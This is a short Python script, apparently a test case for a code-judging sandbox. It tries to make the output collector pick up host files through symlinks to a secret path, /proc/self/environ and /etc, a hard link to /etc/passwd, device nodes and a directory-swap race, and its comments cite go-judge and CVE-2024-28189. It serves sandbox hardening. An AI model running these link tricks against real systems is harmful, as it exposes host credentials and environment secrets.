# tries: gets host files collected as its own: through symbolic links, hard links, links in parent directories
# seen-in: go-judge up to 1.10.0, CVE-2024-28189 Judge0
# walls: collector
# collect: yes
import os, socket
def attempt(action):
    try: action()
    except OSError: pass
secret = os.environ["SECRET"]
attempt(lambda: os.symlink(secret, "link"))
attempt(lambda: os.symlink(os.path.dirname(secret), "directory"))
attempt(lambda: os.symlink("/proc/self/environ", "environ"))
attempt(lambda: os.symlink("/proc/self/root" + secret, "root"))
attempt(lambda: os.symlink("/etc", "etc"))
attempt(lambda: os.link("/etc/passwd", "hard"))
attempt(lambda: os.link(os.path.join(os.environ["SHOWN"], "shared"), "hard2"))
attempt(lambda: os.mkfifo("pipe"))
attempt(lambda: os.mknod("device", 0o20666, os.makedev(1, 5)))
attempt(lambda: socket.socket(socket.AF_UNIX).bind("socket"))
os.makedirs("real/deep")
open("real/deep/file", "w").write("mine")
os.rename("real/deep", "moved")
attempt(lambda: os.symlink("../moved", "real/deep"))
attempt(lambda: os.chmod("moved", 0))
print("attempted")
